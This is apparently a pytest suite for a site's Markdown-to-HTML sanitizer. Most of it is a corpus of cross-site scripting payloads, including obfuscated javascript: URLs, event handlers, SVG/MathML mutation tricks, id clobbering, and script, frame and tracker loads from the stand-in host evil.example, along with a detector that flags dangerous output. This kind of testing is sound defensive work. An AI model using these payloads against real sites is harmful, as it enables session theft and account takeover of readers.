"""render_markdown is the one way a writer's Markdown becomes HTML, so whatever a writer (or a stolen
editor account) types, readers must get inert HTML: no script, no active content, no links that run
code, and no picture fetched from another site. These tests look only at the HTML that comes out,
parsed the way a browser would see its tags and attributes."""

import html
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.conf import settings

from core.markdown import render_markdown

# ---------------------------------------------------------------------------------------------
# Reading the output
# ---------------------------------------------------------------------------------------------


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, {attribute: value})
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag.lower(), {name.lower(): value or "" for name, value in attrs}))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)


def parse(output):
    collector = _Collector()
    collector.feed(output)
    collector.close()
    return collector


def elements(output, tag=None):
    return [(t, attrs) for t, attrs in parse(output).elements if tag is None or t == tag]


def text_of(output):
    return "".join(parse(output).text)


TABS_AND_NEWLINES = re.compile(r"[\t\n\r]")
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


def normalise_url(value):
    """The URL a browser acts on (WHATWG URL parsing): entities decoded, leading and trailing spaces and
    control characters stripped, tabs and newlines removed anywhere, backslashes read as slashes."""
    value = TABS_AND_NEWLINES.sub("", html.unescape(value)).strip("".join(map(chr, range(0x21))))
    return value.replace("\\", "/").lower()


def scheme_of(url):
    match = SCHEME.match(normalise_url(url))
    return match.group(1) if match else None


FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
    "form", "input", "button", "textarea", "select", "option", "meta", "base", "link", "template",
    "noscript", "video", "audio", "source", "track", "marquee", "details", "body", "html", "head",
    "title", "xmp", "plaintext", "noembed", "noframes", "foreignobject", "animate", "set", "use",
    "portal", "isindex", "keygen", "param",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "action", "xlink:href", "srcset", "background",
                        "dynsrc", "lowsrc", "poster", "http-equiv", "name", "form", "is", "target"}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href"}


def _template_ids():
    """ids the page templates give their own elements: a writer's heading must not take one over."""
    found = set()
    for template in (settings.BASE_DIR / "templates").rglob("*.html"):
        found.update(re.findall(r'\bid="([A-Za-z][\w:.-]*)"', template.read_text()))
    return found


PAGE_IDS = _template_ids()


def dangers(output):
    """Every reason this HTML could run code or reach another site by itself; empty when inert."""
    problems = []
    for tag, attrs in elements(output):
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{tag}> element")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"{name} handler on <{tag}>")
            if name in FORBIDDEN_ATTRIBUTES:
                problems.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES:
                scheme = scheme_of(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    problems.append(f"{scheme}: URL in {name} of <{tag}>: {value!r}")
            if name == "id" and (value.startswith("_") or value in PAGE_IDS):
                problems.append(f"id {value!r} on <{tag}> clobbers a page or prototype name")
        if tag == "img":
            source = normalise_url(attrs.get("src", ""))
            if not source.startswith("/") or source.startswith("//"):
                problems.append(f"<img> loads from outside the site: {attrs.get('src')!r}")
    return problems


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    # Raw <script>, every way it is usually smuggled.
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-split-tag", "<scr\nipt>alert(1)</scr\nipt>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-attribute-whitespace", "<script\t\n>alert(1)</script >"),
    ("script-slash-attribute", '<script/x src="https://evil.example/x.js"></script>'),
    ("script-in-paragraph", "Hello <script>alert(1)</script> world"),
    ("script-in-fenced-code", "```html\n<script>alert(1)</script>\n```"),
    ("script-in-inline-code", "Use `<script>alert(1)</script>` like so"),
    # Event handlers.
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="/media/a.png" onerror="alert(1)">'),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-backtick", "<img src=`x` onerror=`alert(1)`>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("a-onmouseover", '<a href="/x" onmouseover="alert(1)">hover</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("video-onerror", "<video src=x onerror=alert(1)></video>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("div-onpointerenter", '<div onpointerenter="alert(1)">x</div>'),
    ("p-onclick-uppercase", '<p ONCLICK="alert(1)">x</p>'),
    ("h2-onfocus-tabindex", '<h2 id="x" tabindex=1 onfocus=alert(1)>x</h2>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    # javascript: URLs, Markdown and raw HTML, with the usual disguises.
    ("md-link-javascript", "[x](javascript:alert(1))"),
    ("md-link-javascript-leading-space", "[x]( javascript:alert(1))"),
    ("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
    ("md-link-javascript-entity-colon", "[x](javascript&#58;alert(1))"),
    ("md-link-javascript-hex-j", "[x](&#x6A;avascript:alert(1))"),
    ("md-link-javascript-tab-entity", "[x](java&#x09;script:alert(1))"),
    ("md-link-javascript-angle", "[x](<javascript:alert(1)>)"),
    ("md-link-javascript-title", '[x](javascript:alert(1) "title")'),
    ("md-reference-javascript", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-reference-javascript-titled", '[x][evil]\n\n[evil]: javascript:alert(1) "t"'),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-autolink-attribute-break", '<http://a.example/"onmouseover="alert(1)>'),
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-javascript-upper", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">x</a>'),
    ("a-javascript-leading-control", '<a href="&#1;javascript:alert(1)">x</a>'),
    ("a-javascript-tab-split", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-javascript-newline-split", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-javascript-entity-tab", '<a href="java&#9;script:alert(1)">x</a>'),
    (
        "a-javascript-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    ),
    ("a-javascript-hex-j", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("a-javascript-padded-entities", '<a href="&#0000106avascript:alert(1)">x</a>'),
    ("a-javascript-named-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    # data: and vbscript:
    ("md-link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("a-vbscript", '<a href="VBScript:msgbox(1)">x</a>'),
    # SVG and MathML.
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    (
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    ),
    ("svg-set-href", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
    ("svg-use-href", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("a-xlink-href", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("mathml-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    ("mathml-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
    (
        "mathml-style-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    # Frames and plug-ins.
    ("iframe-src", '<iframe src="https://evil.example/"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="https://evil.example/x.swf">'),
    ("applet", '<applet code="Evil.class" codebase="https://evil.example/"></applet>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    # Forms.
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("input-formaction", '<form id="test"></form><input form="test" type="submit" formaction="javascript:alert(1)">'),
    ("textarea-breakout", "<textarea></textarea><script>alert(1)</script>"),
    # Document-level elements.
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    # CSS.
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-import", '<style>@import "https://evil.example/x.css";</style>'),
    ("style-attr-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("style-attr-url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-behavior", '<p style="behavior:url(https://evil.example/x.htc)">x</p>'),
    # Malformed markup and attribute breaking.
    ("unclosed-img", "<img src=x onerror=alert(1)"),
    ("unclosed-attribute", '<a href="/x onmouseover=alert(1) x="'),
    ("quote-breakout-text", '"><script>alert(1)</script>'),
    ("quote-breakout-single", "'><img src=x onerror=alert(1)>"),
    ("quote-breakout-in-attribute", '<a title=""><script>alert(1)</script>">x</a>'),
    ("alt-breakout", '<img alt="><script>alert(1)</script>">'),
    ("alt-breakout-with-src", '<img src="/media/a.png" alt="x><svg onload=alert(1)>">'),
    ("double-open", "<<script>alert(1);//<</script>"),
    ("null-byte-tag", "<scr\x00ipt>alert(1)</script>"),
    ("comment-hiding-script", "<!--<script>alert(1)</script>-->"),
    ("comment-breakout", "<!-- --!><script>alert(1)</script> -->"),
    ("comment-in-attribute", '<a title="<!--" href="/x">--><script>alert(1)</script></a>'),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    # Markdown-specific injection.
    ("md-image-title-breakout", '![a](/media/a.png "t\\" onerror=\\"alert(1)")'),
    ("md-image-alt-breakout", '![a" onerror="alert(1)](/media/a.png)'),
    ("md-link-title-breakout", '[a](/x "t\\"><script>alert(1)</script>")'),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](/x)"),
    ("md-heading-html", "## Hi <img src=x onerror=alert(1)>"),
    ("md-toc-heading-script", "[TOC]\n\n## <script>alert(1)</script>"),
    ("md-table-cell-html", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <svg onload=alert(1)> |"),
    ("md-footnote-script", "x[^1]\n\n[^1]: <script>alert(1)</script>"),
    ("md-blockquote-script", "> <script>alert(1)</script>"),
    ("md-list-iframe", "- <iframe src=javascript:alert(1)></iframe>"),
    ("md-image-external", "![tracker](https://evil.example/pixel.png)"),
    ("md-image-protocol-relative", "![tracker](//evil.example/pixel.png)"),
    ("img-backslash-relative", '<img src="/\\evil.example/pixel.png">'),
    ("img-tab-split-relative", '<img src="/&#9;/evil.example/pixel.png">'),
    ("img-newline-split-relative", '<img src="/&#10;/evil.example/pixel.png" alt="x">'),
    # id clobbering.
    ("h2-id-proto", '<h2 id="__proto__">x</h2>'),
    ("h2-id-underscore", '<h2 id="_config">x</h2>'),
    ("form-id-clobber", '<form id="location"><input name="href" value="javascript:alert(1)"></form>'),
    ("img-name-clobber", '<img name="cookie" src="/media/a.png">'),
    ("h2-id-page-main", '<h2 id="main">x</h2>'),
    ("md-heading-slug-page-main", "## Main"),
]

def _cases():
    return [pytest.param(payload, id=case_id) for case_id, payload in XSS_PAYLOADS]


def test_corpus_is_large_and_distinct():
    ids = [case_id for case_id, _ in XSS_PAYLOADS]
    payloads = [payload for _, payload in XSS_PAYLOADS]
    assert len(payloads) >= 60
    assert len(set(ids)) == len(ids)
    assert len(set(payloads)) == len(payloads)


@pytest.mark.parametrize("payload", _cases())
def test_payload_renders_inert(payload):
    output = render_markdown(payload)
    assert dangers(output) == [], output

    # The output is what the importer stores and the preview shows; fed back in, it stays inert.
    twice = render_markdown(output)
    assert dangers(twice) == [], twice


# The checker itself has to see what it is looking for, or the corpus proves nothing.


@pytest.mark.parametrize(
    "raw",
    [
        "<script>alert(1)</script>",
        '<img src="/media/a.png" onerror="alert(1)">',
        '<a href="&#x6A;avascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<img src="https://evil.example/a.png">',
        '<img src="/\t/evil.example/a.png">',
        '<img src="/\\evil.example/a.png">',
        '<p style="color:red">x</p>',
        '<iframe srcdoc="x"></iframe>',
        '<h2 id="__proto__">x</h2>',
    ],
)
def test_checker_catches_dangerous_html(raw):
    assert dangers(raw) != []


def test_checker_passes_ordinary_html():
    ordinary = (
        '<h2 id="help">Help</h2><p><a href="/help/">help</a> <a href="https://example.org/">x</a> '
        '<a href="mailto:a@example.org">m</a> <a href="#help">top</a></p><img src="/media/a.png" alt="a">'
    )
    assert dangers(ordinary) == []


# ---------------------------------------------------------------------------------------------
# What writers expect
# ---------------------------------------------------------------------------------------------


def attrs_of(output, tag):
    found = elements(output, tag)
    assert found, f"no <{tag}> in {output!r}"
    return found[0][1]


def test_section_heading_gets_an_anchor_id():
    output = render_markdown("## Getting help\n\nText.\n\n[Back to it](#getting-help)")
    heading_id = attrs_of(output, "h2").get("id")
    assert heading_id == "getting-help"
    assert attrs_of(output, "a")["href"] == f"#{heading_id}"


def test_repeated_headings_get_distinct_ids():
    output = render_markdown("## Next steps\n\n### Next steps\n\n## Next steps")
    ids = [attrs.get("id") for tag, attrs in elements(output) if tag in ("h2", "h3")]
    assert all(ids)
    assert len(set(ids)) == 3


def test_top_level_heading_becomes_a_section_heading():
    output = render_markdown("# Top\n\nText")
    assert elements(output, "h1") == []
    assert len(elements(output, "h2")) == 1
    assert "Top" in text_of(output)


def test_lists_render():
    output = render_markdown("- one\n- two\n\n1. first\n2. second")
    assert len(elements(output, "ul")) == 1
    assert len(elements(output, "ol")) == 1
    assert len(elements(output, "li")) == 4


def test_ordered_list_keeps_its_start_number():
    output = render_markdown("3. three\n4. four")
    assert attrs_of(output, "ol").get("start") == "3"


def test_blockquote_renders():
    output = render_markdown("> You are not alone.")
    assert elements(output, "blockquote")
    assert "You are not alone." in text_of(output)


def test_table_renders():
    output = render_markdown("| Service | Hours |\n|---|---|\n| Helpline | 24/7 |\n| Chat | 9-5 |")
    assert elements(output, "table")
    assert len(elements(output, "th")) == 2
    assert len(elements(output, "td")) == 4
    assert "Helpline" in text_of(output)


def test_smart_quotes():
    text = text_of(render_markdown('She said "it gets better" and it\'s true.'))
    assert "\u201cit gets better\u201d" in text
    assert "it\u2019s" in text
    assert '"' not in text


def test_fenced_code_is_shown_not_run():
    output = render_markdown("```\n<b>bold?</b>\n```")
    assert elements(output, "pre")
    assert elements(output, "b") == []
    assert "<b>bold?</b>" in text_of(output)


def rel_of(output):
    return set(attrs_of(output, "a").get("rel", "").split())


@pytest.mark.parametrize(
    "markdown_text",
    [
        pytest.param("[Samaritans](https://www.samaritans.org/)", id="https"),
        pytest.param("[x](http://example.org/page?a=1&b=2)", id="http-with-query"),
        pytest.param("[x](HTTPS://EXAMPLE.ORG/)", id="upper-case"),
        pytest.param("[x](//example.org/)", id="protocol-relative"),
        pytest.param('<a href="https://example.org/">x</a>', id="raw-html"),
        pytest.param('[x](https://example.org/ "A title")', id="with-title"),
        pytest.param('<a title="A title" href="https://example.org/">x</a>', id="raw-html-title-first"),
        # browsers read '/\\host' as '//host'
        pytest.param("[x](/\\example.org/)", id="backslash-relative"),
    ],
)
def test_link_to_another_site_gets_noopener_noreferrer(markdown_text):
    assert {"noopener", "noreferrer"} <= rel_of(render_markdown(markdown_text))


@pytest.mark.parametrize(
    "href",
    ["/help/", "help/", "#top", "?page=2", settings.SITE_URL + "/about/", settings.SITE_URL.upper() + "/"],
    ids=["root-relative", "relative", "fragment", "query", "site-url", "site-url-upper"],
)
def test_link_within_the_site_has_no_rel(href):
    output = render_markdown(f"[x]({href})")
    attrs = attrs_of(output, "a")
    assert attrs["href"] == href
    assert "rel" not in attrs


@pytest.mark.parametrize(
    "markdown_text",
    [
        "![A chart](https://example.org/chart.png)",
        "![A chart](http://example.org/chart.png)",
        "![A chart](//example.org/chart.png)",
        '<img src="https://example.org/chart.png" alt="A chart">',
        "![A chart](chart.png)",
    ],
    ids=["https", "http", "protocol-relative", "raw-html", "bare-relative"],
)
def test_image_from_elsewhere_is_dropped(markdown_text):
    assert elements(render_markdown(markdown_text), "img") == []


def test_image_from_media_is_kept_with_alt_text():
    output = render_markdown('![A calm lake at dawn](/media/posts/lake.jpg "Lake")')
    attrs = attrs_of(output, "img")
    assert attrs["src"] == "/media/posts/lake.jpg"
    assert attrs["alt"] == "A calm lake at dawn"
    assert attrs.get("title") == "Lake"


@pytest.mark.parametrize(
    "href", ["mailto:help@example.org", "tel:+441234567890", "tel:116123"], ids=["mailto", "tel-intl", "tel"]
)
def test_mailto_and_tel_links_survive(href):
    attrs = attrs_of(render_markdown(f"[Get in touch]({href})"), "a")
    assert attrs["href"] == href
    assert "rel" not in attrs


def test_footnotes_link_both_ways():
    output = render_markdown("A claim.[^1]\n\n[^1]: The source.")
    hrefs = [attrs["href"] for _, attrs in elements(output, "a")]
    ids = {attrs["id"] for _, attrs in elements(output) if "id" in attrs}
    assert hrefs
    assert all(href.startswith("#") and href[1:] in ids for href in hrefs)


def test_empty_input():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_link_that_only_starts_like_the_site_is_external():
    # http://<site host>@evil.example/ goes to evil.example: the site's host is only the user name.
    host = urlsplit(settings.SITE_URL).netloc
    assert {"noopener", "noreferrer"} <= rel_of(render_markdown(f"[x](http://{host}@evil.example/)"))
